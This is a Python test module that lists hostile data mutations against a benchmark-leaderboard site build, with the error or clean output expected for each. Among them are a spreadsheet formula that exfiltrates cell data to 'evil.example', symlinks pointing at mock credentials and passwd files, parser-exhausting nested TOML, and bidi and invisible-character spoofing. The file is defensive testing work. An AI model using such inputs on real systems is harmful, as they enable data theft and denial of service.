"""The hostile-data corpus: what a stranger's pull request could put in data/ to hang,
exhaust, crash or exfiltrate through the build (issue 12), each as a minimal change to the
valid fixture and the exact outcome: the problem lines (exit 1) or a clean build (exit 0).

A mutation gets the data copy; `outside(data)` is a folder beside it standing for the rest
of the machine (a CI runner's home, /etc): it holds a model-shaped file and a
credentials-style file, both carrying `SECRET`, which must never appear in any output.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree as ET

from support.paths import FIXTURE_DATA as FIXTURE

from bad_data.corpus import SLUG_PROBLEM, Mutation, _m, both, replace
from generator.errors import problem_order

SECRET = "SECRET-FROM-OUTSIDE-DATA-91c2e7"
SECRET_KEY = "ci_deploy_token"
SYMLINK = "a symbolic link (data/ holds only regular files and folders)"
NOT_REGULAR = "not a regular file (data/ holds only regular files and folders)"
TOO_DEEP = "nested too deeply (more than 16 levels)"
OUT_OF_RANGE = "every number is 0 or 1e-12..1e12 in size"


@dataclass(frozen=True)
class HostileCase:
    """One hostile change and its outcome: problem lines, or None for a clean build."""

    name: str
    mutate: Mutation
    expected: tuple[str, ...] | None
    check_site: Callable[[Path], None] | None = None  # after a clean build: the output
    check_errors: Callable[[Path, list[str]], None] | None = None  # instead of `expected`

    def lines(self, data_dir: Path) -> list[str]:
        """The exact stderr lines of a failed build (problems sorted, then the summary)."""
        assert self.expected is not None
        count = len(self.expected)
        noun = "data error" if count == 1 else "data errors"
        problems = sorted((line.format(data=data_dir) for line in self.expected), key=problem_order)
        return [*problems, f"Aborted: {count} {noun}"]


def outside(data: Path) -> Path:
    """The folder beside `data` standing for the rest of the machine (made on first use)."""
    folder = data.parent / "outside"
    if not folder.is_dir():
        folder.mkdir()
        model = (FIXTURE / "models" / "alpha-1.toml").read_text(encoding="utf-8")
        (folder / "alpha-9.toml").write_text(
            model.replace('"alpha-1"', '"alpha-9"').replace("Alpha 1", SECRET), encoding="utf-8"
        )
        (folder / "credentials.toml").write_text(f'{SECRET_KEY} = "{SECRET}"\n', encoding="utf-8")
        for name in ("passwd", "shadow", "hosts.toml"):
            (folder / name).write_text(f"{SECRET}\n", encoding="utf-8")
    return folder


# --- mutations ------------------------------------------------------------------------


def nth_value(rel: str, benchmark: str, value: str) -> Mutation:
    """Set the `value` of the result of `benchmark` in a model file."""

    def mutate(data: Path) -> None:
        path = data / rel
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        start = lines.index(f'benchmark = "{benchmark}"\n')
        at = next(i for i in range(start, len(lines)) if lines[i].startswith("value = "))
        lines[at] = f"value = {value}\n"
        path.write_text("".join(lines), encoding="utf-8")

    return mutate


def new_file(rel: str, text: str) -> Mutation:
    return lambda data: (data / rel).write_text(text, encoding="utf-8")


def link(rel: str, target: str) -> Mutation:
    """Replace `rel` (file or folder) with a symlink to `target` in the outside folder."""

    def mutate(data: Path) -> None:
        path = data / rel
        if path.is_dir():
            for child in path.iterdir():
                child.unlink()
            path.rmdir()
        else:
            path.unlink(missing_ok=True)
        path.symlink_to(outside(data) / target)

    return mutate


def fifo(rel: str) -> Mutation:
    return lambda data: os.mkfifo(data / rel)


# --- what a clean build must show ----------------------------------------------------


def updated_in_utc(site: Path) -> None:
    # 2026-01-15T00:00:00-05:00 is 2026-01-15T05:00:00Z
    document = json.loads((site / "api/v1/models/alpha-2").read_bytes())
    assert document["updatedAt"] == "2026-01-15T05:00:00Z"


def gpqa_chart_drawn(site: Path) -> None:
    svg_pages = [p for p in site.rglob("*.html") if "gpqa" in p.as_posix()]
    assert svg_pages and all(p.stat().st_size > 0 for p in svg_pages)


def csv_cells_are_text(site: Path) -> None:
    """The formula names reach the CSVs as text: a leading `'`, never a live formula."""
    cells = {
        cell
        for path in site.rglob("*.csv")
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
        for cell in row
    }
    assert "'" + FORMULA_NAME in cells and "'@SUM(1+1)" in cells and "'-1+2" in cells
    assert not any(cell[:1] in "=+-@\t\r" and cell != "-" for cell in cells if cell)


def xml_parses(site: Path) -> None:
    """The feed and every inline SVG chart parse: allowed text never breaks XML."""
    ET.fromstring((site / "feed.atom").read_bytes())
    for page in site.rglob("*.html"):
        for svg in re.findall(r"<svg\b.*?</svg>", page.read_text(encoding="utf-8"), re.S):
            ET.fromstring(svg)


def price_is_an_unsigned_zero(site: Path) -> None:
    raw = (site / "api/v1/models/alpha-2").read_bytes()
    assert json.loads(raw)["cost"]["inputPer1M"] == 0.0 and b"-0.0" not in raw
    page = (site / "models/alpha-2/index.html").read_text(encoding="utf-8")
    assert "$0.00" in page and "$-0" not in page


# --- the cases -----------------------------------------------------------------------

A2 = "models/alpha-2.toml"
GPQA = "benchmarks/gpqa-diamond.toml"
CHART = "charts/benchmark-gpqa-diamond.toml"
A1 = "models/alpha-1.toml"
CODING = "domains/coding.toml"
METHODOLOGY = "methodology.toml"
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"x")'
ONE_LINE = "in a one-line field"


HOSTILE: tuple[HostileCase, ...] = (
    # unbounded work
    HostileCase(
        "ticks-of-values-one-float-step-apart",
        both(  # every GPQA result, so the chart's axis spans exactly these two values
            replace(GPQA, "max_value = 1.0", "max_value = 1e10"),
            *(
                nth_value(f"models/{model}.toml", "gpqa-diamond", value)
                for model, value in [
                    ("alpha-1", "1000000000.0"),
                    ("alpha-2", "1000000000.0000001"),
                    ("alpha-3", "1000000000.0"),
                    ("beta-1", "1000000000.0000001"),
                    ("gamma-1", "1000000000.0"),
                    ("delta-preview", "1000000000.0"),
                ]
            ),
        ),
        None,
        gpqa_chart_drawn,
    ),
    HostileCase(
        "long-dotted-private-key",  # 88 KB; tomllib grew quadratically to MemoryError
        new_file("models/dotted.toml", "[private]\n" + ".".join(["k"] * 40_000) + " = 1\n"),
        (_m("models/dotted.toml", "file", f"invalid TOML: {TOO_DEEP}"),),
    ),
    HostileCase(
        "array-nested-300-deep",  # tomllib: RecursionError
        new_file("models/deep.toml", "a = " + "[" * 300 + "]" * 300 + "\n"),
        (_m("models/deep.toml", "line 1", f"invalid TOML: {TOO_DEEP} (column 85)"),),
    ),
    HostileCase(
        "table-header-300-deep",  # the loader's value scan recursed: RecursionError
        new_file("models/header.toml", "[" + ".".join(["t"] * 300) + "]\nx = 1\n"),
        (_m("models/header.toml", "file", f"invalid TOML: {TOO_DEEP}"),),
    ),
    HostileCase(
        "array-nested-past-the-loader-bound",  # rtoml accepts 20, the loader does not
        new_file("models/twenty.toml", "a = " + "[" * 20 + "]" * 20 + "\n"),
        (_m("models/twenty.toml", "file", TOO_DEEP),),
    ),
    # values that cannot be drawn or stored
    HostileCase(
        "control-character-in-model-name",  # resvg: ValueError
        replace(A2, 'name = "Alpha 2"', 'name = "Alpha\\u0001 2"'),
        (_m(A2, "name", "control character U+0001 in text"),),
    ),
    HostileCase(
        "control-character-in-chart-title",
        replace(CHART, 'title = "GPQA', 'title = "\\u001b[2J GPQA'),
        (_m(CHART, "title", "control character U+001B in text"),),
    ),
    HostileCase(
        "release-in-year-9999",  # plots: year 10000 is out of range
        replace(A2, "release_date = 2025-10-01", "release_date = 9999-12-01"),
        (_m(A2, "release_date", "date 9999-12-01 is after 2099"),),
    ),
    HostileCase(
        "value-near-the-largest-float",  # svg: OverflowError
        nth_value(A2, "gpqa-diamond", "1.7e308"),
        (_m(A2, "results[2].value", f"number out of range (1.7e+308; {OUT_OF_RANGE})"),),
    ),
    # files from outside data/
    HostileCase(
        "symlinked-model-file",
        link("models/alpha-9.toml", "alpha-9.toml"),
        (_m("models/alpha-9.toml", "file", SYMLINK),),
    ),
    HostileCase(
        "charts-folder-symlinked-to-a-system-folder",
        link("charts", "."),
        ("{data}/charts: directory: " + SYMLINK,),
    ),
    HostileCase(
        "model-file-symlinked-to-credentials",
        link(A2, "credentials.toml"),
        (_m(A2, "file", SYMLINK),),
    ),
    HostileCase(
        "readme-symlinked-to-credentials",  # not read by the build, refused all the same
        link("README.md", "credentials.toml"),
        ("{data}/README.md: file: " + SYMLINK,),
    ),
    HostileCase(
        "fifo-as-a-model-file",  # reading it would block the build forever
        fifo("models/alpha-9.toml"),
        (_m("models/alpha-9.toml", "file", NOT_REGULAR),),
    ),
    # ids and timestamps
    HostileCase(
        "id-with-a-trailing-newline",
        replace(A2, 'id = "alpha-2"', 'id = "alpha-2\\n"'),
        (_m(A2, "id", SLUG_PROBLEM + ' (value: "alpha-2\\n")'),),
    ),
    # one-line fields: line breaks, bidi controls, invisible characters (issue 23)
    HostileCase(
        "line-breaks-forging-lines-in-a-name",
        replace(A2, 'name = "Alpha 2"', 'name = "GPT-5\\n\\n## forged\\r..."'),
        (
            _m(
                A2,
                "name",
                f'line break or tab U+000A {ONE_LINE} (value: "GPT-5\\n\\n## forged\\r...")',
            ),
        ),
    ),
    HostileCase(
        "bidi-override-in-provider-and-isolate-in-country",
        both(
            replace(A2, 'provider = "Alpha Labs"', 'provider = "sbaL \\u202eAlpha"'),
            replace(A2, 'country = "United States of America"', 'country = "\\u2067US"'),
        ),
        (
            _m(A2, "provider", f'bidi control U+202E {ONE_LINE} (value: "sbaL \\u202eAlpha")'),
            _m(A2, "country", f'bidi control U+2067 {ONE_LINE} (value: "\\u2067US")'),
        ),
    ),
    HostileCase(
        "zero-width-and-line-separators-in-titles-and-labels",
        both(
            replace(CHART, 'title = "GPQA', 'title = "GP\\u200bQA'),
            replace(GPQA, 'name = "GPQA Diamond"', 'name = "GPQA\\u2028Diamond"'),
            replace(CODING, 'name = "Coding"', 'name = "\\ufeffCoding"'),
            replace(CODING, 'harness = "Agent X"', 'harness = "Agent\\u2029X"'),
            replace(A1, 'name = "Alpha 1"', 'name = "Alpha\\t1"'),
            replace(A2, 'name = "Alpha 2"', 'name = "\\u3164"'),
            replace(METHODOLOGY, 'cost_unit = "USD', 'cost_unit = "\\u2060USD'),
        ),
        (
            _m(
                CHART,
                "title",
                f"invisible format character U+200B {ONE_LINE}"
                ' (value: "GP\\u200bQA Diamond scores")',
            ),
            _m(GPQA, "name", f'line break or tab U+2028 {ONE_LINE} (value: "GPQA\\u2028Diamond")'),
            _m(
                CODING,
                "name",
                f'invisible format character U+FEFF {ONE_LINE} (value: "\\ufeffCoding")',
            ),
            _m(
                CODING,
                "results[2].harness",
                f'line break or tab U+2029 {ONE_LINE} (value: "Agent\\u2029X")',
            ),
            _m(A1, "name", f'line break or tab U+0009 {ONE_LINE} (value: "Alpha\\t1")'),
            _m(A2, "name", f'blank filler character U+3164 {ONE_LINE} (value: "\u3164")'),
            _m(
                METHODOLOGY,
                "cost_unit",
                f"invisible format character U+2060 {ONE_LINE}"
                ' (value: "\\u2060USD per 1M input/output tokens")',
            ),
        ),
    ),
    HostileCase(
        "line-breaks-forging-a-heading-in-the-methodology-summary",  # round 4: it built
        replace(
            METHODOLOGY,
            'summary = "Test methodology',
            'summary = "\\n\\n## FORGED HEADING\\n- forged Test methodology',
        ),
        (
            _m(
                METHODOLOGY,
                "summary",
                f"line break or tab U+000A {ONE_LINE}"
                ' (value: "\\n\\n## FORGED HEADING\\n- forged Test methodology: the ship…)',
            ),
        ),
    ),
    HostileCase(
        "look-alike-and-blank-one-line-values",  # round 4: each of these built
        both(
            replace(A1, 'name = "Alpha 1"', 'name = "Alpha 1\u034f"'),
            replace(A1, 'provider = "Alpha Labs"', 'provider = "\u3000"'),
            replace(A1, 'country = "United States of America"', 'country = "United\u00a0States"'),
            replace(A2, 'name = "Alpha 2"', 'name = "Alpha 2 "'),
            replace(A2, 'provider = "Alpha Labs"', 'provider = " "'),
            replace(GPQA, 'name = "GPQA Diamond"', 'name = ""'),
            replace(CODING, 'name = "Coding"', 'name = "\u2800Coding"'),
            replace(CHART, 'title = "GPQA', 'title = "\ufe0fGPQA'),
            replace(CODING, 'harness = "Agent X"', 'harness = "Agent\u17b4X"'),
            replace("models/beta-1.toml", 'name = "Beta 1"', 'name = "Beta\u180b 1"'),
            replace("models/gamma-1.toml", 'name = "Gamma 1"', 'name = "Gamma 1\U000e0100"'),
        ),
        (
            _m(A1, "name", f'invisible character U+034F {ONE_LINE} (value: "Alpha 1\u034f")'),
            _m(A1, "provider", f'white space character U+3000 {ONE_LINE} (value: "\\u3000")'),
            _m(
                A1,
                "country",
                f'white space character U+00A0 {ONE_LINE} (value: "United\\xa0States")',
            ),
            _m(A2, "name", f'space at the start or end of {ONE_LINE[3:]} (value: "Alpha 2 ")'),
            _m(A2, "provider", f'blank value {ONE_LINE} (value: " ")'),
            _m(GPQA, "name", f'blank value {ONE_LINE} (value: "")'),
            _m(CODING, "name", f'blank filler character U+2800 {ONE_LINE} (value: "\u2800Coding")'),
            _m(
                CHART,
                "title",
                f'invisible character U+FE0F {ONE_LINE} (value: "\ufe0fGPQA Diamond scores")',
            ),
            _m(
                CODING,
                "results[2].harness",
                f'invisible character U+17B4 {ONE_LINE} (value: "Agent\u17b4X")',
            ),
            _m(
                "models/beta-1.toml",
                "name",
                f'invisible character U+180B {ONE_LINE} (value: "Beta\u180b 1")',
            ),
            _m(
                "models/gamma-1.toml",
                "name",
                f'invisible character U+E0100 {ONE_LINE} (value: "Gamma 1\U000e0100")',
            ),
        ),
    ),
    HostileCase(
        "names-alike-after-nfkc-case-and-space-folding-are-duplicates",
        both(
            replace(A2, 'name = "Alpha 2"', 'name = "\uff21\uff2c\uff30\uff28\uff21  1"'),
            replace("models/beta-1.toml", 'name = "Beta 1"', 'name = "alpha 1"'),
        ),
        (
            _m(
                A2,
                "name",
                "duplicate name '\uff21\uff2c\uff30\uff28\uff21  1'"
                " (also {data}/models/alpha-1.toml)",
            ),
            _m(
                "models/beta-1.toml",
                "name",
                "duplicate name 'alpha 1' (also {data}/models/alpha-1.toml)",
            ),
        ),
    ),
    # characters XML cannot hold: a field error, never a renderer's refusal (issue 23)
    HostileCase(
        "non-characters-in-a-name-a-description-a-private-note-and-a-key",
        both(
            replace(A2, 'name = "Alpha 2"', 'name = "Alpha\\ufffe2"'),
            replace(CHART, 'description = "Raw', 'description = "\\uffffRaw'),
            replace(GPQA, 'review_status = "approved"', 'review_status = "\\ufdd0"'),
            replace(
                METHODOLOGY, 'summary = "Test methodology', 'summary = "\\U0001fffeTest methodology'
            ),
            replace(
                A1, 'country = "United States of America"', 'country = "US"\n"k\\U0010ffff" = 1'
            ),
        ),
        (
            _m(A2, "name", "non-character U+FFFE in text"),
            _m(CHART, "description", "non-character U+FFFF in text"),
            _m(GPQA, "private.review_status", "non-character U+FDD0 in text"),
            _m(METHODOLOGY, "summary", "non-character U+1FFFE in text"),
            _m(A1, "k\\U0010ffff", "non-character U+10FFFF in a key"),
        ),
    ),
    HostileCase(
        "unusual-but-allowed-text-builds",  # emoji, combining marks, private use, Arabic,
        both(  # and in multi-line text bidi controls, tab, CR LF, U+2028 and markup
            replace(CHART, 'title = "GPQA', 'title = "\U0001f600 e\u0301\ue000 GPQA'),
            replace(
                CHART,
                'description = "Raw',
                'description = "\u202eRaw\\t\\r\\n\u2028 &lt;b&gt; <!-- ]]> \U000f0000',
            ),
            replace(
                A2, 'name = "Alpha 2"', 'name = "Alpha 2 \U0001f916\u0301 \ue123 \u0627\u0644"'
            ),
            replace(GPQA, 'description = "Graduate', 'description = "\u2066Grad\u2069\u00ad'),
        ),
        None,
        xml_parses,
    ),
    HostileCase(
        "negative-zero-price-builds-as-zero",  # was published as -0.0 and $-0.00
        replace(A2, "input = 2.0", "input = -0.0"),
        None,
        price_is_an_unsigned_zero,
    ),
    HostileCase(
        "formula-names-build-as-text-in-every-csv",
        both(
            replace(A1, 'name = "Alpha 1"', f"name = '{FORMULA_NAME}'"),
            replace(A1, 'provider = "Alpha Labs"', 'provider = "@SUM(1+1)"'),
            replace(A2, 'name = "Alpha 2"', 'name = "-1+2"'),
        ),
        None,
        csv_cells_are_text,
    ),
    HostileCase(
        "updated-with-a-utc-offset",
        replace(A2, "updated = 2026-01-15T00:00:00Z", "updated = 2026-01-15T00:00:00-05:00"),
        None,
        updated_in_utc,
    ),
)
